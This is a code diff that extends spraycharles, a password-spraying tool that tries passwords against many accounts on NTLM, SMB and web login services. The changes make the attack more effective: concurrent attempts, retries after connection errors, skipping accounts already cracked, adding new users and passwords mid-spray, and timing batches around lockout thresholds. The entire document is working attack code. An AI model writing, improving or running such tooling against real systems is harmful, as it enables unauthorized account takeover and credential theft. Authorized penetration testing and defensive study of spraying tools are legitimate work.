@@ -1,17 +1,26 @@
 #!/usr/bin/env python3
-import datetime
+import asyncio
+import copy
+import locale
 import logging
 import os
-import pathlib
+import queue
 import random
 import sys
+import threading
 import time
+from concurrent.futures import ThreadPoolExecutor
+from http.cookiejar import DefaultCookiePolicy
+from logging.handlers import QueueHandler, QueueListener
 from pathlib import Path
-from time import sleep
+from urllib.parse import urlparse
 
 import click
 import click_config_file
+import numpy
 import requests
+from impacket.nmb import NetBIOSError
+from requests.adapters import HTTPAdapter
 from rich import print
 from rich.padding import Padding
 from rich.progress import Progress
@@ -22,9 +31,19 @@ from spraycharles import __version__, console
 
 from .analyze import Analyzer
 from .analyze import main as analyzer
-from .targets import *
+from .targets import TARGETS
 from .utils.make_list import main as make_list
 from .utils.ntlm_challenger import main as ntlm_challenger
+from .utils.resolver import pin_host, unpin_hosts
+
+# Number of times a login is tried before giving up on connection errors
+MAX_RETRIES = 8
+
+# Encoding of the user/password list files, the one text mode reads would use
+LIST_ENCODING = locale.getpreferredencoding(False)
+
+# Minimum seconds between checks of the user/password files for new entries
+RELOAD_INTERVAL = 30
 
 
 class Spraycharles:
@@ -49,6 +68,7 @@ class Spraycharles:
         notify,
         webhook,
         pause,
+        concurrency,
     ):
         """
         Validate args and initalize class attributes
@@ -70,10 +90,12 @@ class Spraycharles:
                 style="warning",
             )
 
-        # get usernames from file
+        # get usernames from file. lists are read as bytes and decoded with
+        # LIST_ENCODING, the same way additions are picked up mid-spray
         try:
-            with open(users, "r") as f:
-                user_list = f.read().splitlines()
+            with open(users, "rb") as f:
+                user_lines = f.read().splitlines()
+            user_list = [line.decode(LIST_ENCODING) for line in user_lines]
         except Exception:
             console.print(
                 f"[!] Error reading usernames from file: {users}", style="danger"
@@ -82,9 +104,12 @@ class Spraycharles:
 
         # get passwords from file, otherwise treat arg as a single password to spray
         try:
-            with open(passwords, "r") as f:
-                password_list = f.read().splitlines()
-        except Exception:
+            with open(passwords, "rb") as f:
+                password_lines = f.read().splitlines()
+            password_list = [line.decode(LIST_ENCODING) for line in password_lines]
+        except (OSError, UnicodeDecodeError):
+            # not a file, so there is nothing to reload mid-spray
+            password_lines = []
             password_list = [passwords]
 
         # check that interval and attempt args are supplied together
@@ -141,6 +166,13 @@ class Spraycharles:
             )
             exit()
 
+        if concurrency < 1:
+            console.print(
+                "[!] --concurrency must be at least 1",
+                style="danger",
+            )
+            exit()
+
         if notify and webhook is None:
             console.print(
                 "[!] Must specify a Webhook URL when the notify flag is used.",
@@ -149,21 +181,19 @@ class Spraycharles:
             exit()
 
         # Create spraycharles directories if they don't exist
-        user_home = str(Path.home())
-        if not os.path.exists(f"{user_home}/.spraycharles"):
-            os.mkdir(f"{user_home}/.spraycharles")
-            os.mkdir(f"{user_home}/.spraycharles/logs")
-            os.mkdir(f"{user_home}/.spraycharles/out")
+        sc_dir = Path.home() / ".spraycharles"
+        for subdir in ("logs", "out"):
+            (sc_dir / subdir).mkdir(parents=True, exist_ok=True)
 
         # Building output files
-        current = datetime.datetime.now()
-        timestamp = current.strftime("%Y%m%d-%H%M%S")
+        timestamp = time.strftime("%Y%m%d-%H%M%S")
         if output == "output.csv":
-            output = f"{user_home}/.spraycharles/out/{host}.{timestamp}.csv"
+            output = str(sc_dir / "out" / f"{host}.{timestamp}.csv")
 
-        self.passwords = password_list
+        # drop duplicate entries so no user/password pair is tried twice
+        self.passwords = list(dict.fromkeys(password_list))
         self.password_file = passwords
-        self.usernames = user_list
+        self.usernames = list(dict.fromkeys(user_list))
         self.user_file = users
         self.host = host
         self.module = module
@@ -182,50 +212,113 @@ class Spraycharles:
         self.notify = notify
         self.webhook = webhook
         self.pause = pause
+        self._sc_dir = sc_dir
+        self.concurrency = concurrency
         self.total_hits = 0
         self.login_attempts = 0
         self.target = None
         self.log_name = None
+        self._log_listener = None
+        self._output_file = None
+        self._output_lock = threading.Lock()
+
+        # list contents as bytes, and file mtimes, for picking up additions mid-spray
+        self._user_set = set(user_lines)
+        self._password_set = set(password_lines)
+        self._user_mtime = 0
+        self._password_mtime = 0
+        self._last_reload_check = 0.0
+
+        # usernames as submitted to the target, and the passwords used with -e
+        self._spray_usernames = self._format_usernames(self.usernames)
+        self._equal_passwords = [username.split("@")[0] for username in self.usernames]
+
+        # finish time of the latest spray, the interval wait is measured from it
+        self._last_spray_end = 0.0
+
+        # set on Ctrl-C so worker threads stop retrying and sleeping
+        self._stop = threading.Event()
+
+        # usernames with a confirmed successful login, and -e attempts already made,
+        # both keyed by the username as listed (without any DOMAIN\ prefix).
+        # password file sprays never repeat a password, so only -e pairs can recur
+        self._succeeded = set()
+        self._attempted = set()
+
+        # runs mid-spray analysis off of the spray loop
+        self._analyzer_pool = ThreadPoolExecutor(max_workers=1)
+
+    def _format_usernames(self, usernames):
+        """
+        Prepend DOMAIN\\ to usernames if a domain was provided
+        """
+        if self.domain:
+            return [f"{self.domain}\\{username}" for username in usernames]
+        return list(usernames)
 
     def initialize_module(self):
         """
         Instantiate the specified spray module
         """
-        try:
-            # Passing in path for NTLM over HTTP module
-            if self.module.title().lower() == "ntlm":
-                self.module = self.module.title()
-                mod_name = getattr(sys.modules[__name__], self.module)
-                class_name = getattr(mod_name, self.module)
-                self.target = class_name(
-                    self.host, self.port, self.timeout, self.path, self.fireprox
-                )
-            else:
-                # Else, we just pass the default arguments
-                self.module = self.module.title()
-                mod_name = getattr(sys.modules[__name__], self.module)
-                class_name = getattr(mod_name, self.module)
-                self.target = class_name(
-                    self.host, self.port, self.timeout, self.fireprox
-                )
-        except AttributeError:
+        target_class = TARGETS.get(self.module.lower())
+        if target_class is None:
             console.print(
                 f"[!] Error loading {self.module} module. {self.module} is spelled incorrectly or does not exist",
                 style="danger",
             )
             exit()
 
+        self.module = target_class.__name__
+
+        # Passing in path for NTLM over HTTP module
+        if self.module == "Ntlm":
+            self.target = target_class(
+                self.host, self.port, self.timeout, self.path, self.fireprox
+            )
+        else:
+            # Else, we just pass the default arguments
+            self.target = target_class(
+                self.host, self.port, self.timeout, self.fireprox
+            )
+
+        # resolve the target host once instead of for every new connection
+        target_ip = pin_host(urlparse(self.target.url).hostname)
+        if target_ip and self.module == "Smb":
+            self.target.ip = target_ip
+
         # Create the logfile
-        user_home = str(Path.home())
-        current = datetime.datetime.now()
-        timestamp = int(round(current.timestamp()))
-
-        self.log_name = f"{user_home}/.spraycharles/logs/{self.host}.{timestamp}.log"
-        logging.basicConfig(
-            filename=self.log_name,
-            level=logging.INFO,
-            format="%(asctime)s - %(levelname)s - %(message)s",
+        timestamp = round(time.time())
+
+        self.log_name = str(self._sc_dir / "logs" / f"{self.host}.{timestamp}.log")
+
+        # records are handed to a queue and written to the logfile by a background
+        # thread, so logging each attempt doesn't block the spray on file I/O
+        file_handler = logging.FileHandler(self.log_name)
+        file_handler.setFormatter(
+            logging.Formatter("%(asctime)s - %(levelname)s - %(message)s")
         )
+        log_queue = queue.SimpleQueue()
+        self._log_listener = QueueListener(log_queue, file_handler)
+        self._log_listener.start()
+
+        root_logger = logging.getLogger()
+        root_logger.setLevel(logging.INFO)
+        root_logger.addHandler(QueueHandler(log_queue))
+
+    def _http_session(self):
+        """
+        Build the requests session used by one copy of an HTTP spray module
+        """
+        # a single keep-alive connection per copy, since NTLM authenticates the
+        # connection itself and can't share it between concurrent logins
+        session = requests.Session()
+        adapter = HTTPAdapter(pool_connections=1, pool_maxsize=1)
+        session.mount("http://", adapter)
+        session.mount("https://", adapter)
+
+        # don't carry cookies set by one login attempt into the next
+        session.cookies.set_policy(DefaultCookiePolicy(allowed_domains=[]))
+        return session
 
     def pre_spray_info(self):
         """
@@ -252,13 +345,14 @@ class Spraycharles:
         if self.jitter:
             spray_info.add_row("Jitter", f"{self.jitter_min}-{self.jitter} seconds")
 
+        if self.concurrency > 1:
+            spray_info.add_row("Concurrency", f"{self.concurrency} attempts at once")
+
         if self.notify:
             spray_info.add_row("Notify", f"True ({self.notify})")
 
-        log_name = pathlib.PurePath(self.log_name)
-        out_name = pathlib.PurePath(self.output)
-        spray_info.add_row("Logfile", f"{log_name.name}")
-        spray_info.add_row("Results", f"{out_name.name}")
+        spray_info.add_row("Logfile", f"{Path(self.log_name).name}")
+        spray_info.add_row("Results", f"{Path(self.output).name}")
 
         console.print(spray_info)
 
@@ -294,63 +388,116 @@ class Spraycharles:
 
         self.target.print_headers(self.output)
 
-    def _check_sleep(self):
+        # keep the results file open for the spray, appending a line per attempt
+        self._output_file = open(self.output, "a", buffering=1)
+
+    async def _check_sleep(self, progress):
         """
-        If running on interval, handle analyzing and sleep interval
+        If running on interval, handle analyzing and wait for the next spray window
         """
+        analysis = None
+        wake = None
         if self.login_attempts == self.attempts:
+            # every user gets a full interval with no attempts after each batch, so
+            # lockout counters reset before the next batch starts
+            wake = self._last_spray_end + self.interval * 60
+
             if self.analyze:
+                # analyze in the background so it overlaps with the interval wait
                 analyzer = Analyzer(
                     self.output, self.notify, self.webhook, self.host, self.total_hits
                 )
-                new_hit_total = analyzer.analyze()
-
-                # Pausing if specified by user before continuing with spray
-                if new_hit_total > self.total_hits and self.pause:
-                    print()
-                    console.print(
-                        f"[+] Successful login potentially identified. Pausing...",
-                        style="good",
-                    )
-                    print()
-                    Confirm.ask(
-                        "[blue]Press enter to continue",
-                        default=True,
-                        show_choices=False,
-                        show_default=False,
-                    )
-                    print()
+                analysis = self._analyzer_pool.submit(analyzer.analyze)
             else:
-                new_hit_total = (
-                    0  # just set to zero since results aren't being analyzed mid-spray
-                )
                 print()
 
+            # reset counter
+            self.login_attempts = 0
+
+        if wake is not None:
             console.print(
-                f'[yellow][*] Sleeping until {(datetime.datetime.now() + datetime.timedelta(minutes=self.interval)).strftime("%m-%d %H:%M:%S")}[/yellow]'
+                f'[yellow][*] Sleeping until {time.strftime("%m-%d %H:%M:%S", time.localtime(wake))}[/yellow]'
             )
-            time.sleep(self.interval * 60)
+            await asyncio.sleep(max(0, wake - time.time()))
             print()
 
-            # reset counter and set hit total
-            self.login_attempts = 0
+        if analysis is not None:
+            new_hit_total = await asyncio.wrap_future(analysis)
+
+            # stop spraying users that already have a successful login. results
+            # hold usernames as submitted, so strip any DOMAIN\ prefix first
+            prefix = f"{self.domain}\\" if self.domain else None
+            hit_users = {
+                user[len(prefix) :] if prefix and user.startswith(prefix) else user
+                for user in analyzer.hit_users
+            }
+            new_hit_users = hit_users - self._succeeded
+            if new_hit_users:
+                console.print(
+                    f"[>] Removing {len(new_hit_users)} users with successful logins from the spray",
+                    style="info",
+                )
+                self._succeeded.update(new_hit_users)
+
+            # Pausing if specified by user before continuing with spray
+            if new_hit_total > self.total_hits and self.pause:
+                print()
+                console.print(
+                    f"[+] Successful login potentially identified. Pausing...",
+                    style="good",
+                )
+                print()
+                # prompt from a worker thread so the event loop isn't blocked on stdin,
+                # with the live progress display stopped so it can't redraw over it
+                progress.stop()
+                await asyncio.get_running_loop().run_in_executor(
+                    None,
+                    lambda: Confirm.ask(
+                        "[blue]Press enter to continue",
+                        default=True,
+                        show_choices=False,
+                        show_default=False,
+                    ),
+                )
+                progress.start()
+                print()
+
+            # set hit total
             self.total_hits = new_hit_total
 
-    def _check_file_contents(self, file_path, current_list):
+    def _check_file_contents(self, file_path, current_set, mtime_attr):
         """
         Check if password or username list changed during execution
         """
 
-        new_list = []
         try:
-            with open(file_path, "r") as f:
-                new_list = f.read().splitlines()
-        except:
+            # skip re-reading the file if it hasn't been modified since the last check
+            mtime = os.stat(file_path).st_mtime
+            if mtime == getattr(self, mtime_attr):
+                return []
+
+            # compare raw lines so only the additions need decoding
+            with open(file_path, "rb") as f:
+                new_lines = f.read().splitlines()
+        except OSError:
             # file either no longer exists, or -p flag was given a password and not a file
-            pass
+            return []
+
+        additions = {}
+        for line in dict.fromkeys(new_lines):
+            if not line or line in current_set:
+                continue
+            try:
+                additions[line] = line.decode(LIST_ENCODING)
+            except UnicodeDecodeError:
+                console.print(
+                    f"[!] Skipping undecodable line in {file_path}: {line!r}",
+                    style="warning",
+                )
 
-        additions = list(set(new_list) - set(current_list))
-        return additions
+        setattr(self, mtime_attr, mtime)
+        current_set.update(additions)
+        return list(additions.values())
 
     def _print_attempt(self, username, password, response):
         """
@@ -368,96 +515,200 @@ class Spraycharles:
         output.write("%s,%s,%s,%s\n" % (username, password, code, length))
         output.close()
 
-    def _login(self, username, password):
+    def _login(self, target, username, password):
+        """
+        Perform login attempt, backing off and retrying on connection errors
+        """
+
+        for retry in range(MAX_RETRIES):
+            # the spray was interrupted, so don't start another attempt
+            if self._stop.is_set():
+                return
+
+            try:
+                response = target.login(username, password)
+                with self._output_lock:
+                    target.print_response(response, self._output_file)
+                return
+            except requests.ConnectTimeout as e:
+                with self._output_lock:
+                    target.print_response(None, self._output_file, timeout=True)
+                return
+            except (
+                requests.ConnectionError,
+                requests.ReadTimeout,
+                OSError,
+                NetBIOSError,
+            ) as e:
+                if retry == MAX_RETRIES - 1:
+                    break
+
+                backoff = min(60, 2**retry + random.random())
+                console.print(
+                    f"\n[!] Connection error - sleeping for {backoff:.0f} seconds",
+                    style="danger",
+                )
+                if self._stop.wait(backoff):
+                    return
+
+        console.print(
+            f"\n[!] Skipping {username} after {MAX_RETRIES} connection errors",
+            style="danger",
+        )
+        logging.error(
+            f"Login failed as {username} after {MAX_RETRIES} connection errors"
+        )
+
+    async def _sweep(self, targets, attempts, description, progress):
         """
-        Perform login attempt
+        Run one pass of (username, password) attempts, self.concurrency at a time
         """
+        # draw the jitter for every attempt in the pass at once
+        delays = [0] * len(attempts)
+        if self.jitter is not None:
+            delays = numpy.random.randint(
+                self.jitter_min or 0, self.jitter + 1, size=len(attempts)
+            ).tolist()
+
+        task = progress.add_task(description, total=len(attempts))
+
+        # everything an attempt needs is bound once here rather than looked
+        # up through self for every username
+        login = self._login
+        run_in_executor = asyncio.get_running_loop().run_in_executor
+        advance = progress.update
+        log = logging.info
+
+        async def do_attempt(username, password, delay):
+            # wait for a free target, then run the login on the worker pool
+            target = await targets.get()
+            try:
+                if delay:
+                    await asyncio.sleep(delay)
+                await run_in_executor(None, login, target, username, password)
+            finally:
+                targets.put_nowait(target)
+
+            advance(task, advance=1)
+
+            # log the login attempt
+            log(f"Login attempted as {username}")
 
         try:
-            response = self.target.login(username, password)
-            self.target.print_response(response, self.output)
-        except requests.ConnectTimeout as e:
-            self.target.print_response(None, self.output, timeout=True)
-        except (requests.ConnectionError, requests.ReadTimeout, OSError) as e:
-            console.print(
-                "\n[!] Connection error - sleeping for 5 seconds", style="danger"
+            await asyncio.gather(
+                *[
+                    do_attempt(username, password, delay)
+                    for (username, password), delay in zip(attempts, delays)
+                ]
             )
-            sleep(5)
-            self._login(username, password)
+        finally:
+            progress.remove_task(task)
 
     def spray(self):
         """
         Begin the password spray
         """
-        # spray once with password = username if flag present
-        if self.equal:
-            with Progress(transient=True) as progress:
-                task = progress.add_task(
-                    f"[yellow]Equal Set", total=len(self.usernames)
-                )
-                for username in self.usernames:
-                    password = username.split("@")[0]
-                    if self.jitter is not None:
-                        if self.jitter_min is None:
-                            self.jitter_min = 0
-                        time.sleep(random.randint(self.jitter_min, self.jitter))
-                    self._login(username, password)
-                    progress.update(task, advance=1)
-
-                    # log the login attempt
-                    logging.info(f"Login attempted as {username}")
-
-            self.login_attempts += 1
-
-        # spray using password file
-        for password in self.passwords:
-            # trigger sleep if attempts limit hit
-            self._check_sleep()
-
-            # check if user/pass files have been updated and add new entries to current lists
-            # this will let users add (but not remove) users/passwords into the spray as it runs
-            new_users = self._check_file_contents(self.user_file, self.usernames)
-            new_passwords = self._check_file_contents(
-                self.password_file, self.passwords
-            )
-
-            if len(new_users) > 0:
-                console.print(
-                    f"[>] Adding {len(new_users)} new users into the spray!",
-                    style="info",
-                )
-                self.usernames.extend(new_users)
+        try:
+            asyncio.run(self._spray())
+        except KeyboardInterrupt:
+            self._stop.set()
+            raise
+        finally:
+            # flush any queued log records and stop pinning the target's address
+            self._log_listener.stop()
+            unpin_hosts()
+
+    async def _spray(self):
+        # login attempts block on requests/impacket, so they run on a thread pool
+        # sized to the number of attempts allowed in flight at once
+        executor = ThreadPoolExecutor(max_workers=self.concurrency)
+        asyncio.get_running_loop().set_default_executor(executor)
+
+        # modules keep the current username/password on the instance between
+        # login() and print_response(), so each in-flight attempt gets its own copy
+        targets = asyncio.Queue()
+        for _ in range(self.concurrency):
+            target = _clone_target(self.target)
+            if self.module != "Smb":
+                target.session = self._http_session()
+            targets.put_nowait(target)
 
-            if len(new_passwords) > 0:
-                console.print(
-                    f"[>] Adding {len(new_passwords)} new passwords to the end of the spray!",
-                    style="info",
-                )
-                self.passwords.extend(new_passwords)
+        try:
+            # one progress display for the whole spray, with a task per pass
+            with Progress(transient=True, console=console) as progress:
+                # spray once with password = username if flag present
+                if self.equal:
+                    attempts = list(zip(self.usernames, self._equal_passwords))
+                    self._attempted.update(attempts)
+                    await self._sweep(targets, attempts, f"[yellow]Equal Set", progress)
+
+                    self.login_attempts += 1
+                    self._last_spray_end = time.time()
+
+                # spray using password file
+                for password in self.passwords:
+                    # trigger sleep if attempts limit hit
+                    await self._check_sleep(progress)
+
+                    # check if user/pass files have been updated and add new entries to current lists
+                    # this will let users add (but not remove) users/passwords into the spray as it runs
+                    # files are checked at most once every RELOAD_INTERVAL seconds
+                    new_users = new_passwords = []
+                    now = time.monotonic()
+                    if now - self._last_reload_check >= RELOAD_INTERVAL:
+                        self._last_reload_check = now
+                        new_users = self._check_file_contents(
+                            self.user_file, self._user_set, "_user_mtime"
+                        )
+                        new_passwords = self._check_file_contents(
+                            self.password_file, self._password_set, "_password_mtime"
+                        )
+
+                    if len(new_users) > 0:
+                        console.print(
+                            f"[>] Adding {len(new_users)} new users into the spray!",
+                            style="info",
+                        )
+                        self.usernames.extend(new_users)
+                        self._spray_usernames.extend(self._format_usernames(new_users))
+
+                    if len(new_passwords) > 0:
+                        console.print(
+                            f"[>] Adding {len(new_passwords)} new passwords to the end of the spray!",
+                            style="info",
+                        )
+                        self.passwords.extend(new_passwords)
+
+                    # print line separator
+                    if len(new_passwords) > 0 or len(new_users) > 0:
+                        print()
+
+                    attempts = [
+                        (spray_username, password)
+                        for username, spray_username in zip(
+                            self.usernames, self._spray_usernames
+                        )
+                        if username not in self._succeeded
+                        and (username, password) not in self._attempted
+                    ]
+                    await self._sweep(
+                        targets, attempts, f"[green]Spraying: {password}", progress
+                    )
 
-            # print line separator
-            if len(new_passwords) > 0 or len(new_users) > 0:
-                print()
+                    self.login_attempts += 1
+                    self._last_spray_end = time.time()
+        except (asyncio.CancelledError, KeyboardInterrupt):
+            # stop retrying logins in flight and drop the ones not yet started
+            self._stop.set()
+            if sys.version_info >= (3, 9):
+                executor.shutdown(wait=False, cancel_futures=True)
+            else:
+                executor.shutdown(wait=False)
+            raise
 
-            with Progress(transient=True) as progress:
-                task = progress.add_task(
-                    f"[green]Spraying: {password}", total=len(self.usernames)
-                )
-                while not progress.finished:
-                    for username in self.usernames:
-                        if self.domain:
-                            username = f"{self.domain}\\{username}"
-                        if self.jitter is not None:
-                            if self.jitter_min is None:
-                                self.jitter_min = 0
-                            time.sleep(random.randint(self.jitter_min, self.jitter))
-                        self._login(username, password)
-                        progress.update(task, advance=1)
-
-                        # log the login attempt
-                        logging.info(f"Login attempted as {username}")
-
-            self.login_attempts += 1
+        # done with mid-spray analysis and writing results
+        self._analyzer_pool.shutdown()
+        self._output_file.close()
 
         # analyze the results to point out possible hits
         analyzer = Analyzer(
@@ -466,8 +717,7 @@ class Spraycharles:
         analyzer.analyze()
 
     def ascii(self):
-        print(
-            f"""
+        print(f"""
 
 [yellow] ___  ___  ___  ___  _ _ [blue] ___  _ _  ___  ___  _    ___  ___
 [yellow]/ __>| . \| . \| . || | |[blue]|  _>| | || . || . \| |  | __>/ __>
@@ -475,8 +725,18 @@ class Spraycharles:
 [yellow]<___/|_|  |_\_\|_|_| |_| [blue]`___/|_|_||_|_||_\_\|___||___><___/
 
 [yellow]                        v[blue]{__version__}
-"""
-        )
+""")
+
+
+def _clone_target(target):
+    """
+    Copy a spray target, giving the copy its own request data
+    """
+    clone = copy.copy(target)
+    for name, value in vars(target).items():
+        if isinstance(value, dict):
+            setattr(clone, name, dict(value))
+    return clone
 
 
 # Defining context settings for click CLI
@@ -508,15 +768,10 @@ def modules():
     )
     module_table.add_column("Module", style="bold")
     module_table.add_column("Description")
-    dir_path = os.path.dirname(os.path.realpath(__file__))
-    mod_list = os.listdir(dir_path + "/targets/")
-    for module in mod_list:
-        if module.endswith(".py") and module != "__init__.py":
-            module = module.replace(".py", "")
-            mod_name = getattr(sys.modules[__name__], module)
-            class_name = getattr(mod_name, module)
-            doc = class_name.__doc__
-            module_table.add_row(f"[blue]{module}[/blue]", f"[yellow]{doc}[/yellow]")
+    for target_class in TARGETS.values():
+        module = target_class.__name__
+        doc = target_class.__doc__
+        module_table.add_row(f"[blue]{module}[/blue]", f"[yellow]{doc}[/yellow]")
 
     console.print(Padding(module_table, (1, 1)))
 
@@ -655,6 +910,14 @@ def modules():
     type=str,
     help="Webhook used for specified notification module",
 )
+@click.option(
+    "-c",
+    "--concurrency",
+    required=False,
+    type=int,
+    help="Number of login attempts to have in flight at once. Default is 1.",
+    default=1,
+)
 # Allows user to specify configuration file with --config
 @click_config_file.configuration_option()
 def spray(
@@ -677,6 +940,7 @@ def spray(
     notify,
     webhook,
     pause,
+    concurrency,
 ):
     """Low and slow password spraying tool."""
 
@@ -708,6 +972,7 @@ def spray(
         notify,
         webhook,
         pause,
+        concurrency,
     )
 
     spraycharles.initialize_module()